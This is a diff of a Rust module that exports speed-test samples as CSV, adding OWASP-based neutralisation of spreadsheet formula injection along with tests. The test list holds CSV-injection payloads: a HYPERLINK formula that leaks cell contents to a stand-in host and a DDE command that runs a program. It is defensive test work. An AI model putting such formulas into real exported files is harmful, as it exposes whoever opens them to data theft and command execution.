@@ -1,78 +1,196 @@
 //! Samples as CSV rows: evidence a person can open in a spreadsheet or send to the ISP.
+//!
+//! Rows are written by the `csv` crate from one serde struct, [`Row`], so the header (its field
+//! names) and the cells cannot drift apart, and quoting follows RFC 4180 (a cell holding a
+//! comma, quote or line break is quoted, inner quotes doubled). Text that came from outside
+//! (the CLI's message, server and ISP names, the result URL) is neutralised against CSV
+//! injection as the OWASP guidance says (<https://owasp.org/www-community/attacks/CSV_Injection>):
+//! a cell that a spreadsheet would run as a formula gets a leading single quote. Numbers are
+//! written as numbers.
 
 use std::borrow::Cow;
 
-use crate::sample::{Sample, mbit_per_second, millis, percent};
+use serde::{Serialize, Serializer};
 
-/// The header row. Speeds come in bytes/s (exact) and Mbit/s (what contracts say).
-pub const HEADER: &str = "time,outcome,reason,message,trigger,duration_seconds,\
-download_bytes_per_second,download_mbit_per_second,upload_bytes_per_second,upload_mbit_per_second,\
-ping_seconds,ping_ms,jitter_seconds,jitter_ms,packet_loss_ratio,packet_loss_percent,download_latency_seconds,upload_latency_seconds,\
-downloaded_bytes,uploaded_bytes,server_id,server_name,server_location,server_country,server_host,\
-isp,result_url";
+use crate::sample::{Sample, Trigger, mbit_per_second, millis, percent};
+use crate::time::Timestamp;
 
-/// One row, without the line ending; an unknown value is an empty cell.
-pub fn row(sample: &Sample) -> String {
-    let number = |value: Option<f64>| value.map(|v| v.to_string()).unwrap_or_default();
-    let integer = |value: Option<u64>| value.map(|v| v.to_string()).unwrap_or_default();
-    let mbit = |value: Option<f64>| number(value.map(mbit_per_second));
-    let server = sample.server.as_deref();
-    let text = |value: Option<&str>| escape(value.unwrap_or_default()).into_owned();
-    let cells = [
-        sample.time.to_string(),
-        sample.outcome.as_str().to_owned(),
-        sample
-            .reason
-            .map(|r| r.as_str())
-            .unwrap_or_default()
-            .to_owned(),
-        text(sample.message.as_deref()),
-        sample.trigger.as_str().to_owned(),
-        number(sample.duration_seconds),
-        number(sample.download_bytes_per_second),
-        mbit(sample.download_bytes_per_second),
-        number(sample.upload_bytes_per_second),
-        mbit(sample.upload_bytes_per_second),
-        number(sample.ping_seconds),
-        number(sample.ping_seconds.map(millis)),
-        number(sample.jitter_seconds),
-        number(sample.jitter_seconds.map(millis)),
-        number(sample.packet_loss_ratio),
-        number(sample.packet_loss_ratio.map(percent)),
-        number(sample.download_latency_seconds),
-        number(sample.upload_latency_seconds),
-        integer(sample.downloaded_bytes),
-        integer(sample.uploaded_bytes),
-        integer(server.and_then(|s| s.id)),
-        text(server.and_then(|s| s.name.as_deref())),
-        text(server.and_then(|s| s.location.as_deref())),
-        text(server.and_then(|s| s.country.as_deref())),
-        text(server.and_then(|s| s.host.as_deref())),
-        text(sample.isp.as_deref()),
-        text(sample.result_url.as_deref()),
-    ];
-    cells.join(",")
+/// The header row, ending in a newline. Speeds come in bytes/s (exact) and Mbit/s (what
+/// contracts say).
+pub fn header_line() -> String {
+    // The csv crate writes a struct's field names before its first row: keep that line only.
+    let any = Sample::empty(Timestamp::from_millis(0), Trigger::Manual);
+    let line = write_row(&any, true);
+    match line.find('\n') {
+        Some(end) => line[..=end].to_owned(),
+        None => line,
+    }
 }
 
-/// Quotes a cell that holds a comma, quote or line break (RFC 4180), doubling inner quotes.
-fn escape(cell: &str) -> Cow<'_, str> {
-    if cell.contains([',', '"', '\n', '\r']) {
-        Cow::Owned(format!("\"{}\"", cell.replace('"', "\"\"")))
+/// One row, ending in a newline; an unknown value is an empty cell.
+pub fn row_line(sample: &Sample) -> String {
+    write_row(sample, false)
+}
+
+fn write_row(sample: &Sample, with_header: bool) -> String {
+    let mut writer = ::csv::WriterBuilder::new()
+        .has_headers(with_header)
+        .terminator(::csv::Terminator::Any(b'\n'))
+        .buffer_capacity(1024)
+        .from_writer(Vec::with_capacity(256));
+    // Writing to memory cannot fail, and every cell is valid UTF-8 text or a number; should
+    // the crate ever refuse a row, an empty row keeps the file readable.
+    if writer.serialize(Row::of(sample)).is_err() {
+        return "\n".to_owned();
+    }
+    match writer.into_inner() {
+        Ok(bytes) => String::from_utf8(bytes).unwrap_or_else(|_| "\n".to_owned()),
+        Err(_) => "\n".to_owned(),
+    }
+}
+
+/// The characters that make a spreadsheet read a cell as a formula when it starts with one
+/// (OWASP CSV Injection): `=`, `+`, `-`, `@`, tab, carriage return and line feed, their
+/// full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), and the small forms and the minus sign
+/// some spreadsheets also take for operators (U+FE66, U+FE62, U+FE63, U+FE6B, U+2212).
+const FORMULA_STARTS: [char; 16] = [
+    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+    '\u{FE66}', '\u{FE62}', '\u{FE63}', '\u{FE6B}', '\u{2212}',
+];
+
+/// `cell` made inert for a spreadsheet: prefixed with `'` when it starts with a formula
+/// character, or with whitespace before one (some spreadsheets trim it before deciding).
+/// Source: OWASP, CSV Injection, <https://owasp.org/www-community/attacks/CSV_Injection>.
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    let is_formula_start = |c: char| FORMULA_STARTS.contains(&c);
+    let first_visible =
+        cell.trim_start_matches(|c: char| c.is_whitespace() && !is_formula_start(c));
+    if first_visible.starts_with(is_formula_start) {
+        Cow::Owned(format!("'{cell}"))
     } else {
         Cow::Borrowed(cell)
     }
 }
 
+/// A text cell from outside the program, neutralised when written.
+struct Text<'a>(Option<&'a str>);
+
+impl Serialize for Text<'_> {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        serializer.serialize_str(&neutralise(self.0.unwrap_or_default()))
+    }
+}
+
+/// A number as Rust prints it (`3000000`, `0.0125`), never neutralised: numbers stay numbers.
+struct Number(Option<f64>);
+
+impl Serialize for Number {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        match self.0 {
+            Some(value) => serializer.collect_str(&value),
+            None => serializer.serialize_str(""),
+        }
+    }
+}
+
+/// One CSV row; its field names are the header.
+#[derive(Serialize)]
+struct Row<'a> {
+    time: String,
+    outcome: &'static str,
+    reason: &'static str,
+    message: Text<'a>,
+    trigger: &'static str,
+    duration_seconds: Number,
+    download_bytes_per_second: Number,
+    download_mbit_per_second: Number,
+    upload_bytes_per_second: Number,
+    upload_mbit_per_second: Number,
+    ping_seconds: Number,
+    ping_ms: Number,
+    jitter_seconds: Number,
+    jitter_ms: Number,
+    packet_loss_ratio: Number,
+    packet_loss_percent: Number,
+    download_latency_seconds: Number,
+    upload_latency_seconds: Number,
+    downloaded_bytes: Option<u64>,
+    uploaded_bytes: Option<u64>,
+    server_id: Option<u64>,
+    server_name: Text<'a>,
+    server_location: Text<'a>,
+    server_country: Text<'a>,
+    server_host: Text<'a>,
+    isp: Text<'a>,
+    result_url: Text<'a>,
+}
+
+impl<'a> Row<'a> {
+    fn of(sample: &'a Sample) -> Self {
+        let server = sample.server.as_deref();
+        let mbit = |value: Option<f64>| Number(value.map(mbit_per_second));
+        Row {
+            time: sample.time.to_string(),
+            outcome: sample.outcome.as_str(),
+            reason: sample.reason.map(|r| r.as_str()).unwrap_or_default(),
+            message: Text(sample.message.as_deref()),
+            trigger: sample.trigger.as_str(),
+            duration_seconds: Number(sample.duration_seconds),
+            download_bytes_per_second: Number(sample.download_bytes_per_second),
+            download_mbit_per_second: mbit(sample.download_bytes_per_second),
+            upload_bytes_per_second: Number(sample.upload_bytes_per_second),
+            upload_mbit_per_second: mbit(sample.upload_bytes_per_second),
+            ping_seconds: Number(sample.ping_seconds),
+            ping_ms: Number(sample.ping_seconds.map(millis)),
+            jitter_seconds: Number(sample.jitter_seconds),
+            jitter_ms: Number(sample.jitter_seconds.map(millis)),
+            packet_loss_ratio: Number(sample.packet_loss_ratio),
+            packet_loss_percent: Number(sample.packet_loss_ratio.map(percent)),
+            download_latency_seconds: Number(sample.download_latency_seconds),
+            upload_latency_seconds: Number(sample.upload_latency_seconds),
+            downloaded_bytes: sample.downloaded_bytes,
+            uploaded_bytes: sample.uploaded_bytes,
+            server_id: server.and_then(|s| s.id),
+            server_name: Text(server.and_then(|s| s.name.as_deref())),
+            server_location: Text(server.and_then(|s| s.location.as_deref())),
+            server_country: Text(server.and_then(|s| s.country.as_deref())),
+            server_host: Text(server.and_then(|s| s.host.as_deref())),
+            isp: Text(sample.isp.as_deref()),
+            result_url: Text(sample.result_url.as_deref()),
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
+    use std::sync::Arc;
+
     use super::*;
-    use crate::sample::{FailureReason, Trigger};
-    use crate::time::Timestamp;
+    use crate::sample::{FailureReason, Server};
+
+    const HEADER: &str = "time,outcome,reason,message,trigger,duration_seconds,\
+download_bytes_per_second,download_mbit_per_second,upload_bytes_per_second,upload_mbit_per_second,\
+ping_seconds,ping_ms,jitter_seconds,jitter_ms,packet_loss_ratio,packet_loss_percent,download_latency_seconds,upload_latency_seconds,\
+downloaded_bytes,uploaded_bytes,server_id,server_name,server_location,server_country,server_host,\
+isp,result_url\n";
+
+    /// Reads `text` back as a CSV reader (and so a spreadsheet importing RFC 4180) would.
+    fn cells(text: &str) -> Vec<Vec<String>> {
+        ::csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes())
+            .records()
+            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    }
 
     #[test]
-    fn header_and_row_have_the_same_width() {
+    fn header_is_unchanged_and_as_wide_as_a_row() {
+        assert_eq!(header_line(), HEADER);
         let sample = Sample::empty(Timestamp::from_millis(0), Trigger::Manual);
-        assert_eq!(HEADER.split(',').count(), row(&sample).split(',').count());
+        let row = row_line(&sample);
+        assert!(row.ends_with('\n'));
+        assert_eq!(cells(&header_line())[0].len(), cells(&row)[0].len());
     }
 
     #[test]
@@ -84,8 +202,8 @@ mod tests {
             "exit status 2: said \"no\", twice",
         );
         assert_eq!(
-            row(&sample),
-            "2023-11-14T22:13:20.000Z,failure,exit,\"exit status 2: said \"\"no\"\", twice\",schedule,,,,,,,,,,,,,,,,,,,,,,"
+            row_line(&sample),
+            "2023-11-14T22:13:20.000Z,failure,exit,\"exit status 2: said \"\"no\"\", twice\",schedule,,,,,,,,,,,,,,,,,,,,,,\n"
         );
     }
 
@@ -96,9 +214,69 @@ mod tests {
             ping_seconds: Some(0.0125),
             ..Sample::empty(Timestamp::from_millis(0), Trigger::Manual)
         };
-        let cells: Vec<String> = row(&sample).split(',').map(str::to_owned).collect();
+        let cells = &cells(&row_line(&sample))[0];
         assert_eq!(cells[6], "62500000");
         assert_eq!(cells[7], "500");
         assert_eq!(cells[11], "12.5");
+    }
+
+    #[test]
+    fn formulas_from_outside_are_neutralised_and_numbers_stay_numbers() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1+1",
+            "-1+1",
+            "@SUM(1+1)",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            " =1+1",
+            "\u{FF1D}1+1",
+            "\u{FF0B}1+1",
+            "\u{FF0D}1+1",
+            "\u{FF20}SUM(1)",
+            "\u{2212}1+1",
+            "=cmd|' /C calc'!A0",
+            "-1+2\";=1+2",
+        ];
+        for text in hostile {
+            let sample = Sample {
+                download_bytes_per_second: Some(-1.5),
+                server: Some(Arc::new(Server {
+                    id: Some(7),
+                    name: Some(text.to_owned()),
+                    location: Some(text.to_owned()),
+                    country: None,
+                    host: None,
+                })),
+                isp: Some(Arc::from(text)),
+                result_url: Some(text.to_owned()),
+                ..Sample::failure(
+                    Timestamp::from_millis(0),
+                    Trigger::Manual,
+                    FailureReason::Exit,
+                    text,
+                )
+            };
+            let line = row_line(&sample);
+            let rows = cells(&line);
+            assert_eq!(rows.len(), 1, "one row for {text:?}: {line:?}");
+            let row = &rows[0];
+            for index in [3, 21, 22, 25, 26] {
+                assert_eq!(row[index], format!("'{text}"), "cell {index} of {line:?}");
+            }
+            assert_eq!(row[6], "-1.5", "a number is written as a number");
+            assert_eq!(row[20], "7");
+        }
+        for harmless in [
+            "Example ISP",
+            "Zürich",
+            "1+1",
+            "'quoted",
+            "a=b",
+            "st.example.net:8080",
+        ] {
+            assert_eq!(neutralise(harmless), harmless);
+        }
     }
 }
